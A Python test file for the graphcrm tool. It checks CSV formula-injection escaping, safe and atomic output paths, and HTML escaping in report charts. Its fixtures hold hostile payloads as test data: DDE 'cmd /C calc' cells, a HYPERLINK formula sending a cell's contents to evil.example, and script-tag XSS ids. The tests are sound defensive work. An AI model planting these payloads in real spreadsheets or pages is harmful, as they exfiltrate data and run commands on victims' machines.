"""Files graphcrm writes: never over an input, checked before the store commits, atomic, formula-safe
CSV from every writer, and literal user text in the report's charts (docs/reliability.md,
"Files written")."""
from __future__ import annotations

import errno
import html
import io
import os
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

import graphcrm
from graphcrm.cli import cli
from graphcrm.errors import OutputFileError
from graphcrm.files import escape_formula, escape_formulas, write_csv

OWNERS = "owner_id,name,city\no1,张三,上海\no2,李四,北京\n"
OWNERS_BAD = OWNERS + ",王五,深圳\n"  # row 4: owner_id missing -> one reject
POSTS = "post_id,author_id,created_at,channel\np1,o1,2024-03-03 12:00:00,动态\n"
NOW = "2026-01-01"

#: cells a spreadsheet runs as formulas (OWASP's examples and the whitespace variants)
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\u3000@x", "\u200b=x", "\n-x", "=", "-"]


def _write(folder: Path, tables: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in tables.items():
        (folder / f"{name}.csv").write_text(text, encoding="utf-8")
    return folder


def _is_formula(cell: object) -> bool:
    return escape_formula(cell) != cell


def _owner_count(store: Path) -> int:
    with graphcrm.open(store) as cg:
        return len(cg.table("owners"))


# ---------------------------------------------------------------------------------------------
# the escaping rule
# ---------------------------------------------------------------------------------------------
@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("+1+1", "'+1+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\tabc", "'\tabc"), ("\rabc", "'\rabc"), ("\t-3", "'\t-3"),
    ("  =1+1", "'  =1+1"), ("\n=1", "'\n=1"), ("\u3000@x", "'\u3000@x"), ("\u00a0+x", "'\u00a0+x"),
    ("\u200b=x", "'\u200b=x"), ("\ufeff=x", "'\ufeff=x"),
    # plain numbers stay numbers, whatever their sign
    ("-3.5", "-3.5"), (" -3.5 ", " -3.5 "), ("+86", "+86"), ("-1e5", "-1e5"), ("-.5", "-.5"),
    # not plain numbers: escaped
    ("-1-1", "'-1-1"), ("-3,5", "'-3,5"), ("-", "'-"), ("=", "'="),
    # harmless text is never changed
    ("a-b", "a-b"), ("a=b", "a=b"), ("上海", "上海"), ("", ""), (" ", " "), ("'=x", "'=x"), ("＝1", "＝1"),
])
def test_escape_formula_cells(cell, expected):
    assert escape_formula(cell) == expected


@pytest.mark.parametrize("value", [-3.5, -1, 0, True, None, np.nan, pd.Timestamp("2024-01-01"), np.int64(-7)])
def test_escape_formula_leaves_non_text_alone(value):
    assert escape_formula(value) is value


@pytest.mark.parametrize("dtype", ["str", "string[python]", "string[pyarrow]", object, "category"])
def test_escape_formulas_every_string_backend(dtype):
    cells = FORMULAS + ["-3.5", "北京", "a-b", None]
    df = pd.DataFrame({"=col": pd.Series(cells, dtype=dtype), "x": np.arange(len(cells)) - 5.5,
                       "n": pd.array(range(-6, len(cells) - 6), dtype="Int64")})
    out = escape_formulas(df)
    assert list(out.columns) == ["'=col", "x", "n"]  # headers are cells too
    got = [None if pd.isna(v) else v for v in out["'=col"]]
    assert got == ["'" + c for c in FORMULAS] + ["-3.5", "北京", "a-b", None]
    pd.testing.assert_series_equal(out["x"], df["x"])  # negative numbers stay numbers
    pd.testing.assert_series_equal(out["n"], df["n"])
    assert df.columns[0] == "=col" and df.iloc[0, 0] == FORMULAS[0]  # the input is not changed


def test_escape_formulas_mixed_object_column():
    df = pd.DataFrame({"v": pd.Series([-2, "=x", 3.5, None, "-x"], dtype=object)})
    assert escape_formulas(df)["v"].tolist() == [-2, "'=x", 3.5, None, "'-x"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@ \t\r\n\u3000\u200b.e0123ab上")), max_size=6), max_size=8))
def test_escape_property(cells):
    """Escaped cells are never formulas, change only by a leading quote, and the vectorised
    version equals the per-cell rule; escaping twice changes nothing."""
    out = escape_formulas(pd.DataFrame({"c": pd.Series(cells, dtype="str")}))["c"].tolist()
    assert out == [escape_formula(c) for c in cells]
    for c, o in zip(cells, out):
        assert o in (c, "'" + c)
        assert not _is_formula(o)
        assert escape_formula(o) == o


def test_write_csv_to_stream_and_file(tmp_path):
    df = pd.DataFrame({"owner_id": FORMULAS, "score": np.linspace(-1, 1, len(FORMULAS))})
    buf = io.StringIO()
    write_csv(df, buf)
    back = pd.read_csv(io.StringIO(buf.getvalue()), dtype={"owner_id": str}, keep_default_na=False)
    assert back["owner_id"].tolist() == ["'" + c for c in FORMULAS]
    assert back["score"].tolist() == pytest.approx(df["score"].tolist())
    write_csv(df, tmp_path / "x.csv")
    raw = (tmp_path / "x.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM for Excel
    assert pd.read_csv(tmp_path / "x.csv", encoding="utf-8-sig", keep_default_na=False)["owner_id"].tolist() \
        == back["owner_id"].tolist()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.csv"]  # no temporary file left


# ---------------------------------------------------------------------------------------------
# --rejects: never an input, checked before the commit, atomic, never stale
# ---------------------------------------------------------------------------------------------
@pytest.fixture
def loaded(tmp_path):
    """A store holding o1, o2 and an input folder whose owners.csv has one bad row."""
    store = tmp_path / "s.duckdb"
    with graphcrm.open(store) as cg:
        cg.load(_write(tmp_path / "first", {"owners": OWNERS}), rejects_path=tmp_path / "r0.csv", now=NOW)
    folder = _write(tmp_path / "in", {"owners": OWNERS_BAD.replace("o2,", "o9,"), "posts": POSTS})
    return store, folder


def _cli_load(folder, store, *extra):
    return CliRunner().invoke(cli, ["load", str(folder), "--store", str(store), *extra])


@pytest.mark.parametrize("target", ["owners.csv", "posts.csv"])
def test_rejects_never_overwrites_an_input(loaded, target):
    store, folder = loaded
    before = (folder / target).read_bytes()
    res = _cli_load(folder, store, "--rejects", str(folder / target))
    assert res.exit_code == 1, res.output
    assert "Traceback" not in res.output
    assert f"--rejects {folder / target}" in res.output and "this command reads" in res.output
    assert (folder / target).read_bytes() == before
    assert _owner_count(store) == 2  # refused before anything was loaded (o9 is not there)


def test_rejects_never_overwrites_a_link_of_an_input(loaded, tmp_path):
    store, folder = loaded
    before = (folder / "owners.csv").read_bytes()
    os.link(folder / "owners.csv", tmp_path / "hard.csv")
    os.symlink(folder / "owners.csv", tmp_path / "soft.csv")
    for link in ("hard.csv", "soft.csv"):
        with graphcrm.open(store) as cg, pytest.raises(OutputFileError) as err:
            cg.load(folder, rejects_path=tmp_path / link, now=NOW)
        msg = str(err.value)
        assert str(tmp_path / link) in msg and "owners.csv" in msg and "reads" in msg
    # the input's folder is reached through a symlinked folder too
    os.symlink(folder, tmp_path / "alias")
    with graphcrm.open(store) as cg, pytest.raises(OutputFileError, match="reads"):
        cg.load(folder, rejects_path=tmp_path / "alias" / "owners.csv", now=NOW)
    assert (folder / "owners.csv").read_bytes() == before
    assert _owner_count(store) == 2


def test_rejects_never_overwrites_mapping_store_or_mapped_file(loaded, tmp_path):
    store, folder = loaded
    elsewhere = _write(tmp_path / "elsewhere", {"车主": OWNERS_BAD})
    mapping = tmp_path / "map.toml"
    mapping.write_text('[owners]\nfile = "../elsewhere/车主.csv"\n', encoding="utf-8")
    for bad in (mapping, store, elsewhere / "车主.csv"):
        before = bad.read_bytes()
        with graphcrm.open(store) as cg, pytest.raises(OutputFileError, match="this command reads"):
            cg.load(folder, mapping=mapping, rejects_path=bad, now=NOW)
        assert bad.read_bytes() == before
    assert _owner_count(store) == 2


def test_rejects_in_the_input_folder_only_replace_earlier_rejects(loaded, monkeypatch):
    store, folder = loaded
    (folder / "notes.txt").write_text("my notes", encoding="utf-8")
    with graphcrm.open(store) as cg, pytest.raises(OutputFileError, match="not an earlier rejects file"):
        cg.load(folder, rejects_path=folder / "notes.txt", now=NOW)
    assert (folder / "notes.txt").read_text(encoding="utf-8") == "my notes"
    # the default rejects file in the working directory = the input folder works, twice
    monkeypatch.chdir(folder)
    for _ in range(2):
        with graphcrm.open(store) as cg:
            r = cg.load(".", now=NOW)
        assert r.rejected == 1 and Path(r.rejects_path) == (folder / "graphcrm-rejects.csv").resolve()
    rej = pd.read_csv(folder / "graphcrm-rejects.csv", encoding="utf-8-sig")
    assert rej[["table", "row", "column"]].values.tolist() == [["owners", 4, "owner_id"]]


@pytest.mark.parametrize("bad, message", [("missing/r.csv", "does not exist"), ("adir", "is a folder")])
def test_bad_rejects_path_fails_before_the_commit(loaded, tmp_path, bad, message):
    store, folder = loaded
    (tmp_path / "adir").mkdir()
    res = _cli_load(folder, store, "--rejects", str(tmp_path / bad))
    assert res.exit_code in (1, 2), res.output  # 2: click's own check of a folder
    assert "Traceback" not in res.output and (message in res.output or "directory" in res.output)
    assert _owner_count(store) == 2
    with graphcrm.open(store) as cg, pytest.raises(OutputFileError, match=message):
        cg.load(folder, rejects_path=tmp_path / bad, now=NOW)
    assert _owner_count(store) == 2


def _files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def test_disk_full_while_writing_rejects_loads_nothing(loaded, tmp_path, monkeypatch):
    store, folder = loaded
    out = tmp_path / "out"
    out.mkdir()
    (out / "rej.csv").write_text("table,source_file,row,column,reason,values\nold,x,2,y,z,{}\n", encoding="utf-8")
    old = (out / "rej.csv").read_bytes()

    def full(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr("graphcrm.files.os.fsync", full)
    res = _cli_load(folder, store, "--rejects", str(out / "rej.csv"))
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert "No space left on device" in res.output and str(out / "rej.csv") in res.output
    assert _owner_count(store) == 2  # nothing loaded
    assert _files(out) == ["rej.csv"] and (out / "rej.csv").read_bytes() == old  # no temp file, old file kept


def test_unwritable_rejects_folder_loads_nothing(loaded, tmp_path, monkeypatch):
    store, folder = loaded

    def denied(*a, **k):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr("graphcrm.files.tempfile.mkstemp", denied)
    with graphcrm.open(store) as cg, pytest.raises(OutputFileError, match="Permission denied"):
        cg.load(folder, rejects_path=tmp_path / "rej.csv", now=NOW)
    assert _owner_count(store) == 2


def test_rejects_move_failing_after_commit_says_rows_were_loaded(loaded, tmp_path, monkeypatch):
    store, folder = loaded
    out = tmp_path / "out"
    out.mkdir()

    def broken(src, dst):
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr("graphcrm.files.os.replace", broken)
    res = _cli_load(folder, store, "--rejects", str(out / "rej.csv"))
    assert res.exit_code == 1 and "Traceback" not in res.output
    assert "the rows WERE loaded" in res.output and "Input/output error" in res.output
    assert _owner_count(store) == 3  # o1, o2 and o9: committed
    tmp = [p for p in out.iterdir()]
    assert len(tmp) == 1 and str(tmp[0]) in res.output  # the rejects are kept where the message says
    rej = pd.read_csv(tmp[0], encoding="utf-8-sig")
    assert rej[["table", "row", "column"]].values.tolist() == [["owners", 4, "owner_id"]]


def test_failed_store_write_leaves_no_rejects(loaded, tmp_path, monkeypatch):
    store, folder = loaded
    from graphcrm.errors import StoreError
    from graphcrm.stores.duckdb_store import DuckDBStore

    def fail(self, frames):
        raise StoreError("simulated failure")

    monkeypatch.setattr(DuckDBStore, "upsert", fail)
    with graphcrm.open(store) as cg, pytest.raises(StoreError):
        cg.load(folder, rejects_path=tmp_path / "out.csv", now=NOW)
    assert not (tmp_path / "out.csv").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.csv")]


def test_no_stale_rejects_file(loaded, tmp_path):
    store, folder = loaded
    rej = tmp_path / "rej.csv"
    with graphcrm.open(store) as cg:
        r = cg.load(folder, rejects_path=rej, now=NOW)
    assert r.rejected == 1 and rej.exists()
    (folder / "owners.csv").write_text(OWNERS, encoding="utf-8")  # fixed: no rejects now
    with graphcrm.open(store) as cg:
        r = cg.load(folder, rejects_path=rej, now=NOW)
    assert r.rejected == 0 and r.rejects_path is None
    assert not rej.exists()  # the old file would claim rejects this load did not have
    # a file that is not a rejects file is never removed
    other = tmp_path / "keep.csv"
    other.write_text("a,b\n1,2\n", encoding="utf-8")
    with graphcrm.open(store) as cg:
        cg.load(folder, rejects_path=other, now=NOW)
    assert other.read_text(encoding="utf-8") == "a,b\n1,2\n"


def test_rejects_file_is_formula_safe(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    folder = _write(tmp_path / "=1+1", {"owners": OWNERS_BAD})
    with graphcrm.open(tmp_path / "s.duckdb") as cg:
        r = cg.load(Path("=1+1"), rejects_path="rej.csv", now=NOW)
    assert r.rejects["source_file"].iat[0].startswith("=1+1")  # the report keeps the real value
    rej = pd.read_csv(tmp_path / "rej.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert rej["source_file"].iat[0] == "'" + str(Path("=1+1") / "owners.csv")
    assert not any(_is_formula(c) for c in rej.to_numpy().ravel())
    assert folder.is_dir()


# ---------------------------------------------------------------------------------------------
# every CSV writer with hostile ids, cities, channels and titles; the report's charts
# ---------------------------------------------------------------------------------------------
CITY_MATH = r"$\frac{1$"
CITY_POWER = "$x^2$"
CITY_FORMULA = '=HYPERLINK("http://evil.example","x")'
CITY_NEWLINE = "北\n京"
CITY_RTL = "\u202e深圳\u200f"
CITY_SCRIPT = "<script>alert(1)</script>"
SCRIPT_ID = 'o"</script><script>alert(1)</script>'


#: cities renamed in the input (they load as they are) ...
CITIES_LOADED = {"上海": CITY_MATH, "杭州": CITY_POWER, "合肥": CITY_FORMULA, "南京": CITY_SCRIPT}
#: ... and written into the store directly: the loader cleans control characters out of text,
#: but a store filled by other tools (a shared Neo4j) may hold them
CITIES_STORED = {"北京": CITY_NEWLINE, "深圳": CITY_RTL}


def hostile_tables(n_owners: int = 1_000, seed: int = 1) -> dict[str, pd.DataFrame]:
    """A small demo community where every owner id starts with a formula character (one holds
    ``</script>`` and a quote), cities are mathtext/formula/newline/RTL strings, and channels,
    regions and event titles are formulas."""
    from graphcrm.demo import generate_demo

    tables, truth = generate_demo(n_owners, seed=seed)
    t = {k: v.copy() for k, v in tables.items()}
    ids = t["owners"]["owner_id"].tolist()
    new = {o: "=+-@"[i % 4] + o for i, o in enumerate(ids)}
    new[truth["kocs"][0]] = SCRIPT_ID  # a planted KOC: on the leaderboard and in its chart
    for table, cols in (("owners", ["owner_id"]), ("referrals", ["referrer_id", "referee_id"]),
                        ("attendance", ["owner_id"]), ("posts", ["author_id"]), ("interactions", ["owner_id"])):
        for c in cols:
            t[table][c] = t[table][c].map(new)
    for table in ("owners", "events"):
        t[table]["city"] = t[table]["city"].replace(CITIES_LOADED)
    t["owners"]["region"] = t["owners"]["region"].replace({"华东": "@华东", "华北": "-华北+"})
    t["posts"]["channel"] = "=" + t["posts"]["channel"].astype(str)
    t["events"]["title"] = "=cmd|' /C calc'!A0"
    return t


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    base = tmp_path_factory.mktemp("hostile")
    store = base / "h.duckdb"
    with graphcrm.open(store) as cg:
        r = cg.load(hostile_tables(), rejects_path=base / "rej.csv")
    assert r.rejected == 0, r.format()
    import duckdb

    with duckdb.connect(str(store)) as con:
        for old, new in CITIES_STORED.items():
            for table in ("owners", "events"):
                con.execute(f"UPDATE {table} SET city = ? WHERE city = ?", [new, old])
    return store


def _assert_no_formulas(df: pd.DataFrame, where: str) -> int:
    cells = [c for c in np.asarray(df.astype(str).to_numpy()).ravel()] + [str(c) for c in df.columns]
    bad = [c for c in cells if _is_formula(c)]
    assert not bad, (where, bad[:5])
    return sum(c.startswith("'") for c in cells)


def _read(path_or_text, **kw) -> pd.DataFrame:
    src = io.StringIO(path_or_text) if isinstance(path_or_text, str) else path_or_text
    return pd.read_csv(src, dtype=str, keep_default_na=False, **kw)


@pytest.mark.parametrize("command", [
    ["kocs", "-n", "0"], ["circles", "--members", "-n", "0"], ["referrals", "-n", "0"], ["levels", "-n", "0"],
    ["volunteers", "--no-validate", "-n", "0"], ["info"],
])
def test_format_csv_is_formula_safe(hostile_store, command):
    res = CliRunner().invoke(cli, [*command, "--store", str(hostile_store), "--format", "csv"])
    assert res.exit_code == 0, res.output
    df = _read(res.stdout)
    escaped = _assert_no_formulas(df, " ".join(command))
    if "owner_id" in df.columns:
        assert escaped >= len(df) - 1 and all(v.startswith("'") or v == SCRIPT_ID for v in df["owner_id"])
        stored = set(graphcrm.open(hostile_store).table("owners")["owner_id"])
        assert {v[1:] if v.startswith("'") else v for v in df["owner_id"]} <= stored  # quote removed = stored id


def test_targets_output_and_export_csv_are_formula_safe(hostile_store, tmp_path):
    out = tmp_path / "targets.csv"
    res = CliRunner().invoke(cli, ["targets", "--store", str(hostile_store), "-o", str(out), "--format", "csv"])
    assert res.exit_code == 0, res.output
    df = _read(out, encoding="utf-8-sig")
    _assert_no_formulas(df, "targets -o")
    assert len(df) and all(v.startswith("'") or v == SCRIPT_ID for v in df["owner_id"])
    assert pd.to_numeric(df["priority"]).notna().all()  # numbers stay numbers
    _assert_no_formulas(_read(res.stdout), "targets --format csv")
    edges = tmp_path / "edges.csv"
    res = CliRunner().invoke(cli, ["export", "interactions", "--store", str(hostile_store), "-o", str(edges)])
    assert res.exit_code == 0, res.output
    e = _read(edges)
    _assert_no_formulas(e, "export")
    assert len(e) and all(v.startswith("'") or v == SCRIPT_ID for v in pd.concat([e["source"], e["target"]]))
    assert (pd.to_numeric(e["weight"]) > 0).all()


@pytest.fixture(scope="module")
def hostile_report(hostile_store, tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile-report") / "report.html"
    with graphcrm.open(hostile_store) as cg:
        cg.report(out, strict=True, progress=False, ambassadors_k=10)
    return out


def test_report_with_hostile_names_builds_every_section(hostile_report):
    text = hostile_report.read_text(encoding="utf-8")
    status = dict(re.findall(r'<section class="card sec-(\w+) st-\w+" id="\w+" data-status="(\w+)"', text))
    assert status and set(status.values()) == {"ok"}, status
    svg = "".join(re.findall(r"<svg.*?</svg>", text, flags=re.S))
    labels = [re.sub(r"&[a-z#0-9]+;", lambda m: {"&lt;": "<", "&gt;": ">", "&amp;": "&", "&quot;": '"',
                                                 "&#39;": "'"}.get(m.group(0), m.group(0)), x)
              for x in re.findall(r"<text[^>]*>(.*?)</text>", svg, flags=re.S)]
    joined = "\n".join(labels)
    # mathtext is off: the cities are drawn as the characters they are
    assert CITY_MATH in joined and CITY_POWER in joined and CITY_SCRIPT in joined
    assert "北 京" in joined  # a line break in a city is a space in a chart label
    assert "深圳\u200f" in joined and "\u202e" not in svg  # bidi overrides cannot reorder a label
    assert "<script" not in text.replace("&lt;script", "")  # ids with </script> are escaped everywhere
    assert "</script>" not in text and html.escape(SCRIPT_ID) in text
    # aria-labels of the charts are attribute-escaped
    for label in re.findall(r'aria-label="([^"]*)"', text):
        assert "<" not in label and '"' not in label


def test_report_csvs_are_formula_safe(hostile_report):
    csv_dir = hostile_report.with_name("report-csv")
    files = sorted(csv_dir.glob("*.csv"))
    assert len(files) >= 12
    escaped = {f.stem: _assert_no_formulas(_read(f, encoding="utf-8-sig"), f.name) for f in files}
    assert escaped["kocs"] > 0 and escaped["circle_members"] > 0 and escaped["ambassadors"] > 0
    kocs = _read(csv_dir / "kocs.csv", encoding="utf-8-sig")
    assert pd.to_numeric(kocs["score"]).notna().all()


def test_charts_literal_text_directly():
    from graphcrm.reports import charts

    names = [CITY_MATH, CITY_POWER, "<script>alert(1)</script>", CITY_NEWLINE, CITY_RTL, "\\", "$"]
    svg = charts.hbar(names, list(range(len(names), 0, -1)), title='</script>"t$\\alpha$')
    for n in (CITY_MATH, CITY_POWER, "北 京", "深圳\u200f", "\\", "$"):
        assert f">{n}</text>" in svg
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in svg and "<script" not in svg
    assert 'aria-label="&lt;/script&gt;&quot;t$\\alpha$"' in svg
    tree = "".join(charts.referral_trees([{"title": CITY_MATH, "parent": [-1, 0], "converted": [False, True],
                                   "note": CITY_POWER}], labels={k: CITY_MATH for k in
                                                                  ("chain_root", "converted", "not_converted",
                                                                   "level_rings", "top_chains")}))
    assert tree.count(f">{CITY_MATH}</text>") >= 1 and f">{CITY_POWER}</text>" in tree


# ---------------------------------------------------------------------------------------------
# -o paths of the other writers
# ---------------------------------------------------------------------------------------------
def test_export_output_paths(hostile_store, tmp_path):
    runner = CliRunner()
    res = runner.invoke(cli, ["export", "referrals", "--store", str(hostile_store), "-o", str(tmp_path / "no" / "r.csv")])
    assert res.exit_code == 1 and "does not exist" in res.output and "Traceback" not in res.output
    inputs = _write(tmp_path / "in", {"referrals": "referrer_id,referee_id,referred_at,stage\na,b,2024-01-01,lead\n"})
    res = runner.invoke(cli, ["export", "referrals", "--store", str(hostile_store), "-o", str(inputs / "referrals.csv")])
    assert res.exit_code == 1 and "looks like an input table" in res.output
    assert (inputs / "referrals.csv").read_text(encoding="utf-8").startswith("referrer_id")
    # an earlier export of the same kind (same header) is replaced
    mine = tmp_path / "mine"
    mine.mkdir()
    for _ in range(2):
        res = runner.invoke(cli, ["export", "referrals", "--store", str(hostile_store), "-o", str(mine / "referrals.csv")])
        assert res.exit_code == 0, res.output
    assert _files(mine) == ["referrals.csv"]
    res = runner.invoke(cli, ["export", "referrals", "--store", str(hostile_store), "-o", str(mine / "g.graphml")])
    assert res.exit_code == 0 and _files(mine) == ["g.graphml", "referrals.csv"]


def test_graphml_export_is_atomic(hostile_store, tmp_path, monkeypatch):
    import networkx as nx

    out = tmp_path / "g.graphml"
    out.write_text("old", encoding="utf-8")

    def broken(G, path):
        Path(path).write_text("half", encoding="utf-8")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(nx, "write_graphml", broken)
    res = CliRunner().invoke(cli, ["export", "referrals", "--store", str(hostile_store), "-o", str(out)])
    assert res.exit_code == 1 and "No space left on device" in res.output and "Traceback" not in res.output
    assert out.read_text(encoding="utf-8") == "old" and _files(tmp_path) == ["g.graphml"]


def test_targets_and_report_output_paths(hostile_store, tmp_path):
    runner = CliRunner()
    before = hostile_store.read_bytes()
    for args in (["targets", "-o", str(hostile_store)], ["report", "-o", str(hostile_store)]):
        res = runner.invoke(cli, [*args, "--store", str(hostile_store)])
        assert res.exit_code == 1 and "this command reads" in res.output, res.output
    assert hostile_store.read_bytes() == before
    res = runner.invoke(cli, ["targets", "--store", str(hostile_store), "-o", str(tmp_path / "no" / "t.csv")])
    assert res.exit_code == 1 and "does not exist" in res.output
    inputs = _write(tmp_path / "in", {"owners": OWNERS})
    res = runner.invoke(cli, ["report", "--store", str(hostile_store), "-o", str(tmp_path / "r.html"),
                              "--csv-dir", str(inputs)])
    assert res.exit_code == 1 and "holds input tables (owners.csv)" in res.output
    assert _files(inputs) == ["owners.csv"] and not (tmp_path / "r.html").exists()


def test_demo_never_overwrites_real_exports(tmp_path):
    exports = _write(tmp_path / "exports", {"owners": OWNERS, "posts": POSTS})
    res = CliRunner().invoke(cli, ["demo", "--owners", "1000", "--out", str(exports),
                                   "--store", str(tmp_path / "d.duckdb")])
    assert res.exit_code == 1 and "holds input tables (owners.csv, posts.csv)" in res.output, res.output
    assert (exports / "owners.csv").read_text(encoding="utf-8") == OWNERS and _files(exports) == ["owners.csv", "posts.csv"]


def test_every_csv_writer_goes_through_write_csv():
    """No module writes CSV but graphcrm.files (the demo writes its generated input tables in the
    contract's own format: synthetic data, read back by the loader, so never escaped)."""
    root = Path(__file__).resolve().parents[1]
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(|pa_csv\.write_csv\(|\.to_excel\(")
    found = []
    for folder in ("graphcrm", "loaders", "algorithms", "reports"):
        for path in sorted((root / folder).rglob("*.py")):
            rel = path.relative_to(root).as_posix()
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if writers.search(line) and rel not in ("graphcrm/files.py", "graphcrm/demo.py"):
                    found.append(f"{rel}:{n}: {line.strip()}")
    assert not found, "CSV written without graphcrm.files.write_csv:\n" + "\n".join(found)


# ------------------------------------------------------------------ CSV bytes built column-wise
def _pandas_csv_bytes(df: pd.DataFrame) -> bytes:
    buf = io.StringIO()
    df.to_csv(buf, index=False, lineterminator="\r\n")
    return buf.getvalue().encode("utf-8")


def _awkward_frame(n: int = 3000) -> pd.DataFrame:
    rng = np.random.default_rng(0)
    x = np.concatenate([rng.lognormal(0, 8, n // 2) * rng.choice([-1, 1], n // 2), np.round(rng.random(n - n // 2) * 1000, 2)])
    x[:21] = [0.0, -0.0, np.nan, np.inf, -np.inf, 1e16, 1e15, 1e-5, 1e-4, 123456789012345678.0, 0.1, 1 / 3, 2.5,
              3.0, 5e-324, 1.7976931348623157e308, 9999999999999998.0, 0.30000000000000004, 100.0, -1e-7, 1e22]
    texts = ["a", "", "x,y", 'q"u', '"', "l\nb", "c\rr", "\r\n", " sp ", "北京", "#1 上海", "'=1", "NULL", "nan", "t\tab"]
    return pd.DataFrame({
        "f": x, "i": rng.integers(-10**12, 10**12, n), "b": rng.random(n) < 0.5,
        "s": pd.Series(rng.choice(texts, n)).mask(rng.random(n) < 0.1),
        "o": pd.Series(rng.choice(["p", "q,", ""], n), dtype=object).mask(rng.random(n) < 0.1),
        "I": pd.Series(pd.array(rng.integers(0, 99, n), dtype="Int64")).mask(rng.random(n) < 0.2),
        "B": pd.Series(pd.array(rng.random(n) < 0.5, dtype="boolean")).mask(rng.random(n) < 0.2),
        "c": pd.Series(rng.choice(["k", "m,n", "上海"], n)).astype("category").mask(rng.random(n) < 0.1),
        "u": rng.integers(0, 5, n).astype(np.uint8), "nan_only": np.full(n, np.nan)})


def test_csv_bytes_equal_pandas_on_awkward_values():
    from graphcrm.files import _csv_bytes

    df = _awkward_frame()
    assert _csv_bytes(df) == _pandas_csv_bytes(df)
    assert _csv_bytes(df.head(0)) == _pandas_csv_bytes(df.head(0))  # header only
    odd = df.rename(columns={"f": "a,b", "i": 'q"', "b": "分数"})
    assert _csv_bytes(odd) == _pandas_csv_bytes(odd)  # headers quoted like cells


def test_float_text_is_numpys_str():
    """pandas writes float64 cells as NumPy's astype(str); the column-wise path uses repr."""
    rng = np.random.default_rng(1)
    x = np.concatenate([rng.standard_normal(20_000) * 10.0 ** rng.integers(-30, 30, 20_000),
                        np.round(rng.lognormal(0, 3, 20_000), rng.integers(0, 6, 20_000)[0]),
                        rng.integers(-10**6, 10**6, 20_000).astype(float), rng.random(20_000)])
    assert x.astype(str).tolist() == [repr(v) for v in x.tolist()]


@pytest.mark.parametrize("frame", [
    pd.DataFrame({"t": pd.to_datetime(["2024-01-01", None]), "x": [1, 2]}),  # datetimes: pandas formats them
    pd.DataFrame({"x": np.array([1.5, 2.25], dtype=np.float32), "y": ["a", "b"]}),  # float32 repr differs
    pd.DataFrame({"x": [1, "a"], "y": [True, False]}, dtype=object),  # mixed objects
    pd.DataFrame({"only": ["", "a"]}),  # one column: a row of one empty field is written ""
    pd.DataFrame({"x": [1.0], "y": pd.Series(["\ud800"], dtype=object)}),  # a lone surrogate: pandas raises its own error
])
def test_csv_bytes_leave_other_frames_to_pandas(frame):
    from graphcrm.files import _fast_csv

    assert _fast_csv(frame) is None


def test_every_report_csv_is_written_as_pandas_would(hostile_store, tmp_path, monkeypatch):
    """Each table of a strict report (hostile names, en and zh headers) compared with pandas'
    bytes before it is written; every file took the column-wise path but the one-column ones
    and those with a datetime column (pandas formats dates)."""
    from graphcrm import files

    seen: list[tuple[bool, tuple]] = []
    fast = files._fast_csv

    def checked(df):
        got = fast(df)
        if got is not None:
            assert got == _pandas_csv_bytes(df), list(df.columns)
        dated = any(pd.api.types.is_datetime64_any_dtype(df[c]) for c in df.columns)
        seen.append((got is not None or dated, tuple(df.columns)))
        return got

    monkeypatch.setattr(files, "_fast_csv", checked)
    with graphcrm.open(hostile_store) as cg:
        cg.report(tmp_path / "en.html", strict=True, progress=False, ambassadors_k=10)
        cg.report(tmp_path / "zh.html", lang="zh", strict=True, progress=False, ambassadors_k=10)
    assert len(seen) >= 40
    assert all(ok for ok, cols in seen if len(cols) > 1), [cols for ok, cols in seen if not ok]


def test_float_text_by_distinct_bit_patterns_is_repr():
    """_float_text formats each distinct 64-bit pattern once: the same text as repr per cell,
    with -0.0 apart from 0.0 and on both of its paths (few distinct values, mostly distinct)."""
    from graphcrm.files import _float_text

    rng = np.random.default_rng(3)
    few = np.round(rng.choice([0.0, -0.0, 1.0, 2.5, 1 / 3, 1e16, -1e-7, np.inf, -np.inf, 5e-324], 50_000), 3)
    few[::7] = -0.0
    many = rng.standard_normal(5_000) * 10.0 ** rng.integers(-20, 20, 5_000)
    for x in (few, many, few[:100], np.concatenate([few, many])):
        assert _float_text(x).to_pylist() == [repr(v) for v in x.tolist()]
    assert _float_text(few).to_pylist()[::7] == ["-0.0"] * len(few[::7])


def test_formula_prefilter_agrees_with_the_cell_rule():
    """_may_be_formula says False only for text columns in which escape_formula changes no cell:
    random cells over the skipped characters, the formula characters and plain ones, one by one."""
    from graphcrm.files import _SKIP, _may_be_formula

    rng = np.random.default_rng(4)
    alphabet = list(_SKIP) + ["=", "+", "-", "@", "a", "1", ".", "北", "'", ","]
    cells = ["".join(rng.choice(alphabet, rng.integers(0, 4))) for _ in range(20_000)] + ["", "a=b", "x-1"]
    for cell in cells:
        s = pd.Series([cell, "plain"], dtype="str")
        assert _may_be_formula(s) == (escape_formula(cell) != cell or (
            cell[:1] in ("\t", "\r") or cell.lstrip(_SKIP)[:1] in ("=", "+", "-", "@"))), repr(cell)
    safe = pd.Series(["北京", "a-b", None, " x"], dtype="str")
